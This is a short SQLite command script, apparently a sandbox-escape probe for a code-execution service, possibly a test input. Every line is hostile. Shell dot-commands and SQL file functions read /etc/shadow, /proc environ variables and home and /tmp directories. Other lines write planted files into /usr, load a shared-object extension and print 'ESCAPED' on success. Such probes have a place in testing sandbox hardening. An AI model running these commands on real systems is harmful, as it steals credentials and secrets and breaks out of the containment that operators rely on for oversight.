.bail off
.shell cat /proc/*/environ /etc/shadow /etc/hostname
.system cat /tmp/* /home/* /opt/codequest/*
.read /etc/shadow
.output /usr/planted
SELECT 'into /usr';
.output stdout
.shell test -e /usr/planted && echo ESCAP""ED
.import /proc/1/environ environment
SELECT readfile('/etc/shadow'), readfile('/proc/1/environ');
SELECT CASE WHEN writefile('/usr/planted', 'x') > 0 THEN 'ESCAPED' END;
SELECT load_extension('/tmp/extension.so');
ATTACH DATABASE '/usr/planted.db' AS planted;
CREATE TABLE planted.here(x);
SELECT 'done';
